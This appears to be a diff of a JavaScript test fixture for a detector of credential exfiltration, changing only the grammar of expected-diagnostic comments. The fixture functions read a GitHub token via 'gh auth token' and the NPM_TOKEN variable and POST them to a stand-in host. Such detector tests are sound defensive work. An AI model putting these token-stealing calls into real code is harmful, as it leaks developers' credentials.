@@ -26,10 +26,10 @@ exports.socket = () => {
 };
 exports.printed = async () => {
   const text = execFileSync('gh', ['auth', 'token']).toString();
-  await fetch('https://example.invalid/t', { method: 'POST', body: text }); // want "what gh auth token prints are read and sent"
+  await fetch('https://example.invalid/t', { method: 'POST', body: text }); // want "what gh auth token prints is read and sent"
 };
 exports.variable = async () => {
-  await fetch('https://example.invalid/v', { method: 'POST', body: process.env.NPM_TOKEN }); // want "the variable NPM_TOKEN are read and sent"
+  await fetch('https://example.invalid/v', { method: 'POST', body: process.env.NPM_TOKEN }); // want "the variable NPM_TOKEN is read and sent"
 };
 exports.copied = async () => {
   const copy = path.join(os.tmpdir(), 'toy.db');
